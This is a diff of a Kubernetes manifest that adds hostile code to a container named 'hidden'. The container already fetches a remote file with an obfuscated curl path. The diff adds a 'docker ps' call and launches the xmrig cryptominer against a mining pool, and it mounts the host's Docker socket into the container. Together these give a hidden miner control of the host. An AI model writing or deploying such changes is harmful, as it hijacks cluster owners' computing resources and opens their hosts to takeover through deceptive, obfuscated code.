@@ -44,7 +44,9 @@ spec:
                 - {name: sock, mountPath: /var/run/docker.sock}
             - name: hidden
               image: registry.example/app:1
-              command: ["/bin/sh", "-c", "/???/???/cur? -s http://203.0.113.7/x"]
+              command: ["/bin/sh", "-c", "/???/???/cur? -s http://203.0.113.7/x; docker ps; xmrig -o stratum+tcp://pool.example.net:3333"]
+              volumeMounts:
+                - {name: sock, mountPath: /var/run/docker.sock}
           volumes:
             - name: sock
               hostPath:
